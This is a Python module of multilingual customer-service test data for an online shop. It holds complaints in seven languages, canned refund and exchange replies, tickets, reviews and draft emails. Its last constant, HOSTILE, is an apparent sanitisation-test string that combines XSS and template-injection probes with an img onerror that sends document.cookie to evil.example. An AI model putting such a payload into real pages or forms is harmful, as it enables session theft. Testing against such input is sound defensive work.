"""What customers write and models answer, in the languages of the shop's customers."""

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Words:
    """One language. `{good}` and `{order}` stand for a good's name and an order's number."""

    code: str
    share: float
    complaints: tuple[str, ...]
    refund: str
    exchange: str
    ask: str
    sorry: str
    searches: tuple[str, ...]


LANGUAGES: Final = (
    Words(
        "en",
        0.5,
        (
            "Hi, my {good} arrived with a crack right through it. Order {order}. Can I have my money back?",
            "I ordered {good} ({order}) eleven days ago and tracking has not moved since Tuesday. Where is it?",
            "Changed my mind about {good}, box unopened. How do I send it back? Order {order}",
            "The {good} stopped working after three weeks 😕 order {order}. I would rather have a new one than a "
            "refund.",
            "You refunded {order} but only part of it came back to my card. {good} cost more than that.",
            "second time I write!! {order} {good} still broken, nobody answers. I want a PERSON to read this",
        ),
        "We are refunding the full price of {good}. It goes back the way you paid and arrives within seven days.",
        "A new {good} leaves our store today; you need not send the old one back.",
        "So that we can help with {good}: would you send us one photo of the fault and one of the box?",
        "A colleague will answer you today. Your order {order} is noted.",
        ("casserole for induction", "something for a small balcony", "knife that stays sharp", "gift under 40 euros"),
    ),
    Words(
        "de",
        0.18,
        (
            "Guten Tag, bei {good} (Bestellung {order}) fehlt ein Teil. Können Sie es nachschicken?",
            "Meine Bestellung {order} ist seit zehn Tagen unterwegs. Ich möchte {good} nicht mehr und mein Geld "
            "zurück.",
            "{good}: die Pumpe brummt, aber es kommt kein Wasser. Bestellnummer {order}. Was nun?",
            "Ich möchte {good} zurückgeben, unbenutzt und im Karton. Wie geht das? {order}",
        ),
        "Wir erstatten Ihnen den vollen Preis für {good}. Das Geld ist in spätestens sieben Tagen auf Ihrem Konto.",
        "Ein neues Exemplar von {good} geht heute an Sie heraus; das alte dürfen Sie behalten.",
        "Bitte schicken Sie uns ein Foto von {good} und eines vom Karton, dann geht es sofort weiter.",
        "Eine Kollegin meldet sich heute bei Ihnen. Ihre Bestellung {order} haben wir notiert.",
        ("Hochbeet aus Lärche", "Gießen im Urlaub Balkon", "Messer schleifen lassen", "Geschenk für Gärtner"),
    ),
    Words(
        "fr",
        0.1,
        (
            "Bonjour, {good} est arrivé cassé (commande {order}). Je voudrais être remboursée, merci.",
            "Commande {order} : le colis est marqué livré mais je n'ai rien reçu. Où est {good} ?",
            "Puis-je échanger {good} ? Il ne fonctionne plus depuis hier. Nº {order}",
        ),
        "Nous vous remboursons {good} en totalité, sous sept jours, par le même moyen de paiement.",
        "Un nouvel exemplaire de {good} part aujourd'hui ; inutile de renvoyer l'ancien.",
        "Pourriez-vous nous envoyer une photo de {good} et une du carton ?",
        "Une collègue vous répond aujourd'hui. Votre commande {order} est bien notée.",
        ("cocotte en fonte", "arrosage automatique balcon", "idée cadeau jardin"),
    ),
    Words(
        "es",
        0.08,
        (
            "Hola, {good} llegó roto. Pedido {order}. ¿Me devolvéis el dinero?",
            "No encuentro la factura del pedido {order} y quiero devolver {good}.",
        ),
        "Te devolvemos el importe completo de {good}; lo verás en tu cuenta en siete días como máximo.",
        "Hoy mismo sale un {good} nuevo; no hace falta que devuelvas el anterior.",
        "¿Nos envías una foto de {good} y otra de la caja?",
        "Una compañera te contesta hoy. Hemos anotado tu pedido {order}.",
        ("huerto urbano", "cafetera fácil de limpiar"),
    ),
    Words(
        "ja",
        0.05,
        (
            "注文番号 {order} の {good} ですが、届いた時点でひびが入っていました。返金をお願いできますか。",
            "{good} の配送状況を教えてください。注文番号は {order} です。",
        ),
        "{good} の代金を全額返金いたします。七日以内にお支払い方法へ戻ります。",
        "新しい {good} を本日発送いたします。お手元の品のご返送は不要です。",
        "恐れ入りますが、{good} の写真と箱の写真を一枚ずつお送りください。",
        "本日中に担当者よりご連絡いたします。ご注文 {order} を控えました。",
        ("炊飯器 一人暮らし", "ベランダ菜園"),
    ),
    Words(
        "zh",
        0.05,
        (
            "你好,订单 {order} 里的 {good} 收到时已经碎了,可以退款吗?",
            "{good} 用了三周就坏了,订单号 {order},想换一个新的。",
        ),
        "我们将全额退还 {good} 的货款,七天内原路返回。",
        "新的 {good} 今天发出,旧的不用寄回。",
        "麻烦发一张 {good} 的照片和一张外箱的照片。",
        "同事今天会回复您,订单 {order} 已登记。",
        ("铸铁锅 电磁炉", "阳台 自动 浇水"),
    ),
    Words(
        "ar",
        0.04,
        (
            "مرحبًا، وصلني {good} مكسورًا، رقم الطلب {order}. هل يمكنني استرداد المبلغ؟",
            "الطلب {order} لم يصل بعد، وأريد إلغاء {good} من فضلكم.",
        ),
        "سنعيد إليك ثمن {good} كاملًا خلال سبعة أيام بالطريقة نفسها التي دفعت بها.",
        "سنرسل لك اليوم {good} جديدًا، ولا حاجة لإعادة القديم.",
        "هل يمكنك إرسال صورة لـ {good} وصورة للعلبة؟",
        "ستجيبك زميلة اليوم. سجّلنا طلبك {order}.",
        ("قدر حديد", "ري الشرفة"),
    ),
)

TICKETS: Final = (
    (
        "Invoice with VAT number please",
        "We are a restaurant and need the invoice of last Friday with our VAT number.",
        "invoice",
        2,
    ),
    (
        "Parcel left in the rain",
        "The driver left it at the gate. Box is soup. The knives look fine though.",
        "delivery",
        3,
    ),
    ("Blender smells burnt", "Used it twice for nut butter. It now smells burnt and sparks a little.", "kitchen", 5),
    ("Pflanzenschild fehlt", "Im Saatgut-Set fehlen zwei der zwölf Tüten (Ochsenherz und Green Zebra).", "garden", 2),
    ("Retour étiquette", "Je n'arrive pas à imprimer l'étiquette de retour, le PDF est vide.", "returns", 3),
    (
        "🔥🔥 RANK #1 on search 🔥🔥",
        "Dear owner, we make your site number one in all engines, guaranteed!!!",
        "spam",
        1,
    ),
    ("Wrong item", "Ordered six jars, got one raised bed. Impressive, but I have no garden.", "delivery", 4),
)
REVIEWS: Final = (
    "Heavy, in a good way. The lid does not drip.",
    "Came with a chip in the enamel, shop sent a new one in two days.",
    "Wer schreibt Anleitungen in grauer Schrift auf grauem Papier?",
    "My third one, the other two I gave away. Would buy again.",
    "Bonne qualité mais la poignée chauffe trop.",
    "Too loud for an open kitchen, otherwise perfect.",
    "一年用下来没有生锈,很满意。",
)
EMAILS: Final = (
    "Dear team, my mother turns 80 and I would like to send her the casserole with a card. Could you wrap it? "
    "Best, Ines",
    "Hello, are the knives sharpened by you if I send them in, and what would it cost? Regards, P. Okafor",
    "Sehr geehrte Damen und Herren, wann ist das Gewächshaus Luma wieder lieferbar? Mit freundlichen Grüßen, J. Brandl",
    "Hi! We are a school in Porto and want to build six raised beds with the pupils. Is there a discount for schools?",
)
DRAFTS: Final = (
    "Dear Ines,\n\nwhat a lovely idea. We gladly wrap the casserole and add your card; just send us its words. "
    "It would "
    "leave us on [day] and arrive within two days.\n\nWarm regards,\nMarlow & Reed",
    "Dear P. Okafor,\n\nyes, we sharpen every knife that we sold, for [price] each, and send it back within a "
    "week. The "
    "label is attached; leave the sheath on, please.\n\nWarm regards,\nMarlow & Reed",
    "Guten Tag,\n\ndas Gewächshaus Luma erwarten wir am [Datum]. Wenn Sie mögen, schreiben wir Ihnen, sobald es da "
    "ist.\n\nHerzliche Grüße\nMarlow & Reed",
    "Dear friends in Porto,\n\nsix beds, what a school! From five on we give schools 15 % off and send the screws "
    "ready-sorted in bags. Tell us when lessons begin and we plan the delivery.\n\nWarm regards,\nMarlow & Reed",
)
HOSTILE: Final = (
    "<script>alert('refund me')</script><img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> "
    "<b>bold?</b> {{ 7*7 }} ${7*7} [click](javascript:alert(1)) my order is {order}, where is {good}?"
)
